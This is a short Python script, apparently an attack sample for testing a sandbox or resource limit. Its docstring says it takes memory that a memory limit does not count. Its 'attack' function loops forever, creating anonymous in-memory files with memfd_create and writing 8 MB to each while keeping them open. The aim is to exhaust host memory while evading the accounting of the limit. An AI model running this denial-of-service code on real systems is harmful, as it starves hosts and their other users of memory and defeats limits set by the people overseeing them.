"""Takes memory that the limit on memory does not count: anonymous files."""

import os


def attack(path, port):
    kept = []
    while True:
        kept.append(os.memfd_create("hidden"))
        os.write(kept[-1], bytes(8_000_000))
